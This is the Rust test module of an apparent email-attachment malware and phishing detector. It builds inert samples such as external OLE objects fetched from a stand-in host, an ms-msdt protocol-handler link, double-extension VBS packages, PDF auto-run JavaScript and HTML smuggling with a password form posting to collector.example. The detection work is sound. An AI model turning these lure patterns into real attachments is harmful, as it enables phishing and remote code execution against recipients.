            format!("<!--> <Relationship Id=' --><Relationship Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/><!-- ' -->"),
            format!("<Relationship Type=\"{OLE}\" Type=\"x/image\" Target=\"media/a.png\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/>"),
            format!("<Relationship Type=\"{OLE}\n\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/>"),
        ] {
            let rels = format!("<Relationships>{rel}</Relationships>");
            let r = with_doc_rels(rels.as_bytes());
            let e = r.get("attach.external_object").expect(&rel);
            assert!(e.words.contains("https://e.example/o.bin"), "{}", e.words);
            // Read as an oleObject (7), not an unknown type (5).
            assert!(e.words.contains("external oleObject from"), "{}", e.words);
            assert_eq!(e.weight, 7, "{rel}");
        }
        // A part in UTF-16, as XML allows: with a byte order mark, or
        // without one in either byte order, after a declaration and a long
        // comment in Korean.
        let rels = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!--{}--><Relationships><Relationship Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/></Relationships>", "관계".repeat(200));
        let units: Vec<u16> = rels.encode_utf16().collect();
        let le: Vec<u8> = units.iter().flat_map(|u| u.to_le_bytes()).collect();
        let be: Vec<u8> = units.iter().flat_map(|u| u.to_be_bytes()).collect();
        // Big-endian, no declaration, after a new line: no `<` first, found
        // by the NULs before each character.
        let be_late: Vec<u8> = format!("\n<Relationships><Relationship Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/></Relationships>")
            .encode_utf16()
            .flat_map(|u| u.to_be_bytes())
            .collect();
        for part in [[&[0xFF, 0xFE][..], &le].concat(), le.clone(), be, be_late] {
            let r = with_doc_rels(&part);
            assert!(r.get("attach.external_object").is_some(), "{r:?}");
        }
        // Hostile sizes, in linear time: a megabyte of `<`, and one element
        // repeating its Target 100,000 times (a few judged, and it says so).
        let many = "<".repeat(1 << 20);
        let r = with_doc_rels(many.as_bytes());
        assert!(r.get("attach.external_object").is_none());
        let targets: String = (0..100_000)
            .map(|k| format!(" Target=\"https://e{k}.example/\""))
            .collect();
        let rels = format!("<Relationships><Relationship Type=\"{OLE}\"{targets} TargetMode=\"External\"/></Relationships>");
        let r = with_doc_rels(rels.as_bytes());
        assert!(r.get("attach.external_object").is_some(), "{r:?}");
        assert!(r.get("attach.unchecked").is_some(), "{r:?}");
        // Ten lesser targets first do not push the one leading furthest out
        // of the few judged: a web target after local paths, a protocol
        // handler after web targets.
        for (lesser, last, rule) in [
            (
                "media/{k}.png",
                "https://e.example/o.bin",
                "attach.external_object",
            ),
            (
                "https://w{k}.example/",
                "ms-msdt:/id PCWDiagnostic",
                "attach.protocol_handler",
            ),
        ] {
            let before: String = (0..10)
                .map(|k| format!(" Target=\"{}\"", lesser.replace("{k}", &k.to_string())))
                .collect();
            let rels = format!("<Relationships><Relationship Type=\"{OLE}\"{before} Target=\"{last}\" TargetMode=\"External\"/></Relationships>");
            let r = with_doc_rels(rels.as_bytes());
            let e = r.get(rule).expect(last);
            assert!(e.words.contains(last), "{}", e.words);
        }
        // No attributes at all: nothing, and no panic.
        for rel in [
            "<Relationship/>",
            "<Relationship>",
            "<Relationship",
            "<!--",
            "<![CDATA[",
            "<?",
        ] {
            let rels = format!("<Relationships>{rel}");
            let r = with_doc_rels(rels.as_bytes());
            assert!(r.get("attach.external_object").is_none(), "{rel}");
        }
    }

    #[test]
    fn clean_docx_has_no_evidence() {
        let r = inspect(&att("minutes.docx", &docx(&[])));
        assert_eq!(r.detected, "ooxml-docx");
        assert!(r.evidence.is_empty(), "{:?}", r.evidence);
    }

    #[test]
    fn ole_with_vba_macros() {
        let f = cfb_file(&[
            ("/WordDocument", b"inert"),
            ("/Macros/VBA/dir", b"Attribute VB_Name = \"inert\""),
            ("/Macros/PROJECT", b"ID=\"{0}\""),
        ]);
        let r = inspect(&att("report.doc", &f));
        assert_eq!(r.detected, "ole");
        assert!(r.get("attach.ole_macros").unwrap().words.contains("Macros"));
        assert!(r.get("attach.type_mismatch").is_none());
        let clean = cfb_file(&[("/WordDocument", b"inert")]);
        assert!(inspect(&att("report.doc", &clean)).evidence.is_empty());
    }

    #[test]
    fn ole_package_names_its_file() {
        let mut native = Vec::new();
        native.extend(0u32.to_le_bytes());
        native.extend(2u16.to_le_bytes());
        native.extend(b"invoice.pdf.vbs\0C:\\inert\\invoice.pdf.vbs\0");
        native.extend(0x0003_0000u32.to_le_bytes());
        native.extend(8u32.to_le_bytes());
        native.extend(b"C:\\t\\x\0");
        native.extend(6u32.to_le_bytes());
        native.extend(b"inert!");
        let f = cfb_file(&[("/\u{1}Ole10Native", &native)]);
        let r = inspect(&att("oleObject1.bin", &f));
        assert!(r
            .get("attach.ole_package")
            .unwrap()
            .words
            .contains("invoice.pdf.vbs"));
        assert_eq!(r.inner[0].name, "invoice.pdf.vbs");
        assert!(r.get("attach.embedded").is_some());
    }

    #[test]
    fn hwp_postscript_script_and_ole() {
        let f = hwp_sample();
        let r = inspect(&att("notice.hwp", &f));
        assert_eq!(r.detected, "hwp", "{r:?}");
        assert!(r
            .get("attach.hwp_eps")
            .unwrap()
            .words
            .contains("BinData/BIN0001.eps"));
        let s = r.get("attach.hwp_script").unwrap();
        assert_eq!(s.weight, 8);
        assert!(s.words.contains("ActiveXObject"), "{}", s.words);
        assert!(r.get("attach.hwp_ole").is_some());
        let eps = r
            .inner
            .iter()
            .find(|i| i.name == "BinData/BIN0001.eps")
            .unwrap();
        assert_eq!(eps.detected, "postscript");
        let p = eps.get("attach.postscript_payload").unwrap();
        assert!(
            p.words.contains("2,000-character hex string"),
            "{}",
            p.words
        );
        let ole = r
            .inner
            .iter()
            .find(|i| i.name == "BinData/BIN0002.OLE")
            .unwrap();
        assert_eq!(ole.detected, "ole");
        assert!(ole.get("attach.ole_macros").is_some());
        let e = r.get("attach.embedded").unwrap();
        assert!(e.words.contains("2,000-character"), "{}", e.words);
        assert!(r.score() >= crate::evidence::PHISHING_AT);
    }

    #[test]
    fn hwpx_script_and_postscript() {
        let r = inspect(&att("notice.hwpx", &hwpx_sample()));
        assert_eq!(r.detected, "hwpx");
        assert!(r.get("attach.hwp_script").unwrap().words.contains("eval"));
        assert!(r.get("attach.hwp_eps").is_some());
        assert!(r.get("attach.embedded").is_some(), "{r:?}");
    }

    #[test]
    fn pdf_actions_and_escaped_names() {
        let r = inspect(&att("statement.pdf", PDF_ACTIONS));
        assert_eq!(r.detected, "pdf");
        assert!(r.get("attach.pdf_javascript").is_some());
        assert!(r
            .get("attach.pdf_auto_action")
            .unwrap()
            .words
            .contains("/OpenAction"));
        assert!(r
            .get("attach.pdf_obfuscated")
            .unwrap()
            .words
            .contains("/J#61vaScript"));
        let r = inspect(&att("statement.pdf", &pdf_objstm()));
        assert!(r.get("attach.pdf_javascript").is_some(), "{r:?}");
        assert!(r.get("attach.pdf_launch").is_some());
        assert!(r
            .get("attach.pdf_embedded_file")
            .unwrap()
            .words
            .contains("setup.exe"));
        assert!(inspect(&att("clean.pdf", PDF_CLEAN)).evidence.is_empty());
    }

    #[test]
    fn documents_keep_their_web_links() {
        let urls = |r: &Report| r.links.iter().map(|l| l.url.clone()).collect::<Vec<_>>();
        // A literal string (with an escaped parenthesis), a hex string, a
        // repeat, and targets that are no web links.
        let pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Annot /A << /S /URI /URI (https://bit.ly/3x\\(y\\)) >> >>\nendobj\n2 0 obj\n<< /A << /S /URI /URI <68747470733A2F2F6578616D706C652E6F72672F61> >> >>\nendobj\n3 0 obj\n<< /A << /S /URI /URI (https://bit.ly/3x\\(y\\)) /Next << /S /URI /URI (mailto:a@b.example) >> >> >>\nendobj\n4 0 obj\n<< /A << /S /URI /URI (javascript:void 0) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
        let r = inspect(&att("statement.pdf", pdf));
        assert_eq!(
            urls(&r),
            ["https://bit.ly/3x(y)", "https://example.org/a"],
            "{r:?}"
        );
        assert_eq!(r.links[0].host, "bit.ly");
        // Octal escapes, a `//` link, a link split by line breaks and
        // tabs (browsers drop them), a control character in a path (kept,
        // output escapes it) and in a host (no readable host: dropped).
        let r = inspect(&att(
            "o.pdf",
            b"%PDF-1.4\n<< /URI (https://bit\\056ly/o) >> << /URI (//cdn.example/x) >> << /URI (https://bit.ly/\\n\\tabc) >> << /URI (https://a.example/\\033[2J) >> << /URI (https://\\344\\001/) >>\n",
        ));
        assert_eq!(
            urls(&r),
            [
                "https://bit.ly/o",
                "https://cdn.example/x",
                "https://bit.ly/abc",
                "https://a.example/\u{1b}[2J"
            ],
            "{r:?}"
        );
        assert_eq!(r.links[0].from, "pdf");
        // In an encrypted file the strings are ciphertext, which reads as
        // no link; one that does read is kept (a stray `/Encrypt` must not
        // hide the file's links).
        let mut enc =
            b"%PDF-1.4\n<< /URI <9f3a0b77e2d1c4> >> << /URI (\\223\\001x\\377) >>\n".to_vec();
        enc.extend_from_slice(b"trailer\n<< /Root 1 0 R /Encrypt 9 0 R >>\n");
        let r = inspect(&att("statement.pdf", &enc));
        assert!(r.get("attach.encrypted_document").is_some());
        assert!(r.links.is_empty(), "{r:?}");
        let mut fake = pdf.to_vec();
        fake.extend_from_slice(b"% /Encrypt\n");
        assert_eq!(urls(&inspect(&att("statement.pdf", &fake))).len(), 2);
        // A hex string that never closes, or is not hex, is no link; a
        // long one is cut.
        let mut open = b"%PDF-1.4\n<< /URI <68747470733A2F2F".to_vec();
        open.extend(std::iter::repeat_n(b' ', 100_000));
        assert!(inspect(&att("h.pdf", &open)).links.is_empty());
        let mut long = b"%PDF-1.4\n<< /URI <68747470733A2F2F782E6578616D706C652F".to_vec();
        long.extend(b"41".repeat(2000));
        long.extend(b"> >>\n");
        let r = inspect(&att("l.pdf", &long));
        assert_eq!(r.links.len(), 1, "{r:?}");
        assert_eq!(r.links[0].url.len(), 256);
        // Links inside an object stream are found as the keywords are.
        let mut objstm =
            b"%PDF-1.5\n6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
                .to_vec();
        objstm.extend(miniz_oxide::deflate::compress_to_vec_zlib(
            b"4 0 << /S /URI /URI (https://x.web.core.windows.net/) >>",
            6,
        ));
        objstm.extend(b"\nendstream\nendobj\n%%EOF\n");
        let r = inspect(&att("s.pdf", &objstm));
        assert!(
            urls(&r).contains(&"https://x.web.core.windows.net/".to_string()),
            "{r:?}"
        );
        // A Word document's hyperlink relationship, a web page's anchors
        // and form target.
        let r = inspect(&att("cv.docx", &docx(&[])));
        assert_eq!(urls(&r), ["https://example.com/"]);
        assert_eq!(r.links[0].from, "ooxml");
        let r = inspect(&att("payment.html", HTML_SMUGGLE));
        assert_eq!(urls(&r), ["https://collector.example/login"]);
        assert_eq!(r.links[0].from, "form");
        // Bounded.
        let mut many = b"%PDF-1.4\n".to_vec();
        for k in 0..500 {
            many.extend_from_slice(format!("<< /URI (https://h{k}.example/) >>\n").as_bytes());
        }
        assert_eq!(inspect(&att("m.pdf", &many)).links.len(), MAX_DOC_LINKS);
    }

    #[test]
    fn html_smuggling_and_forms() {
        let r = inspect(&att("payment.html", HTML_SMUGGLE));
        assert_eq!(r.detected, "html");
        for rule in [
            "attach.html_smuggling",
            "attach.html_form_external",
            "attach.html_password",
            "attach.html_obfuscated_script",
        ] {
            assert!(r.get(rule).is_some(), "{rule}: {r:?}");
        }
        assert!(r
            .get("attach.html_form_external")
            .unwrap()
            .words
            .contains("collector.example"));
        // A target written with character references, as a browser reads it.
        let coded = b"<html><form method=post action=\"http&colon;&sol;&sol;c&#111;llector.example/p\"><input name=u></form></html>";
        let r = inspect(&att("login.html", coded));
        let e = r
            .get("attach.html_form_external")
            .expect("the coded target");
        assert!(
            e.words.contains("http://collector.example/p"),
            "{}",
            e.words
        );
        // A form inside an anchor is read, as a browser shows it.
        let inside = b"<html><a href=\"#\"><form method=post action=\"https://grab.example/p\"><input type=password name=p></form></a></html>";
        let r = inspect(&att("login.html", inside));
        let e = r
            .get("attach.html_form_external")
            .expect("the form in the anchor");
        assert!(e.words.contains("grab.example"), "{}", e.words);
    }

    #[test]
    fn rtf_with_an_object() {
        let r = inspect(&att("order.doc", RTF_OBJECT));
        assert_eq!(r.detected, "rtf");
        assert_eq!(r.get("attach.rtf_object").unwrap().weight, 8);
    }

    #[test]
    fn iso_root_directory_is_read() {
        let r = inspect(&att("invoice.iso", &iso_with("INVOICE.LNK", &fake_lnk())));
        assert_eq!(r.detected, "iso");
        assert!(r.get("attach.disk_image").is_some());
        assert_eq!(r.inner[0].name, "INVOICE.LNK");
        assert_eq!(r.inner[0].detected, "lnk");
        assert!(r.get("attach.archive_contains").is_some());
    }

    #[test]
    fn gzip_rar_7z_onenote() {
        let r = inspect(&att("update.gz", &gz("setup.exe", &fake_pe())));
        assert_eq!(r.inner[0].detected, "pe");
        assert!(r.get("attach.archive_contains").is_some());
        let r = inspect(&att("scan.rar", &rar4_encrypted()));
        assert_eq!(r.detected, "rar");
        assert!(r
            .get("attach.encrypted_archive")
            .unwrap()
            .words
            .contains("1 of 1"));
        assert_eq!(r.inner[0].name, "invoice.exe");
        assert!(r.get("attach.archive_contains").is_some());
        let r = inspect(&att("scan.rar", &rar5_encrypted_headers()));
        assert!(r
            .get("attach.encrypted_archive")
            .unwrap()
            .words
            .contains("file names included"));
        let r = inspect(&att("scan.7z", &seven_zip_aes()));
        assert!(r.get("attach.encrypted_archive").is_some());
        let hta = b"<html><head><hta:application id=\"x\"/></head><body>inert</body></html>";
        let r = inspect(&att("notes.one", &onenote_with(hta)));
        assert_eq!(r.detected, "onenote");
        assert!(r.get("attach.onenote").is_some());
        assert_eq!(r.inner[0].detected, "hta");
        assert!(r.get("attach.embedded").is_some());
    }

    #[test]
    fn clean_files_have_no_evidence() {
        let p = png();
        let r = inspect(&att("photo.png", &p));
        assert_eq!(r.detected, "image");
        assert!(r.evidence.is_empty(), "{:?}", r.evidence);
        let t = b"Hello, the minutes of Monday's meeting are below.\n";
        let r = inspect(&Attachment {
            name: Some("notes.txt"),
            declared: Some("text/plain"),
            bytes: t,
        });
        assert_eq!(r.detected, "text");
        assert!(r.evidence.is_empty(), "{:?}", r.evidence);
        let r = inspect(&Attachment {
            name: None,
            declared: None,
            bytes: &[],
        });
        assert_eq!(r.name, "");
        assert!(r.evidence.is_empty());
    }

    #[test]
    fn report_serializes() {
        let z = zip(&[m("a.lnk", &fake_lnk())]);
        let r = inspect(&att("a.zip", &z));
        let j = serde_json::to_string(&r).unwrap();
        assert!(
            j.contains("\"detected\":\"zip\"") && j.contains("attach.archive_contains"),
            "{j}"
        );
    }

    fn samples() -> Vec<(&'static str, Vec<u8>)> {
        vec![
            ("invoice.pdf", fake_pe()),
            ("a.lnk", fake_lnk()),
            (
                "a.zip",
                zip(&[m("x/invoice.pdf.lnk", &fake_lnk()), m("y.txt", b"hello")]),
            ),
            ("a.docx", docx(&[m("word/vbaProject.bin", b"inert")])),
            (
                "a.doc",
                cfb_file(&[
                    ("/Macros/VBA/dir", b"inert"),
                    ("/Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 0]),
                ]),
            ),
            ("a.hwp", hwp_sample()),
            ("a.hwpx", hwpx_sample()),
            ("a.pdf", PDF_ACTIONS.to_vec()),
            ("b.pdf", pdf_objstm()),
            ("a.html", HTML_SMUGGLE.to_vec()),
            ("a.rtf", RTF_OBJECT.to_vec()),
            ("a.iso", iso_with("INVOICE.LNK", &fake_lnk())),
            ("a.gz", gz("setup.exe", &fake_pe())),
            ("a.rar", rar4_encrypted()),
            ("b.rar", rar5_encrypted_headers()),
            ("a.7z", seven_zip_aes()),
            ("a.one", onenote_with(b"<hta:application>")),
            ("a.png", png()),
            ("a.eps", postscript_with_hex().into_bytes()),
        ]
    }

    fn xorshift(s: &mut u64) -> u64 {
        *s ^= *s << 13;
        *s ^= *s >> 7;
        *s ^= *s << 17;
        *s
    }

    #[test]
    fn truncated_mutated_and_garbage_inputs_never_panic() {
        let lim = Limits {
            max_inflated_total: 4 << 20,
            ..Limits::default()
        };
        let mut seed = 0x9E37_79B9_7F4A_7C15u64;
        for (name, s) in samples() {
            let step = (s.len() / 1200).max(1);
            for n in (0..s.len()).step_by(step) {
                inspect_with(&att(name, &s[..n]), &lim);
            }
            for _ in 0..300 {
                let mut b = s.clone();
                for _ in 0..1 + xorshift(&mut seed) % 8 {
                    let i = (xorshift(&mut seed) % b.len() as u64) as usize;
                    b[i] = xorshift(&mut seed) as u8;
                }
                inspect_with(&att(name, &b), &lim);
            }
            // The magic bytes of the type, then garbage.
            let mut g: Vec<u8> = s[..s.len().min(24)].to_vec();
            for _ in 0..4096 {
                g.push(xorshift(&mut seed) as u8);
            }
            inspect_with(&att(name, &g), &lim);
        }
    }
}
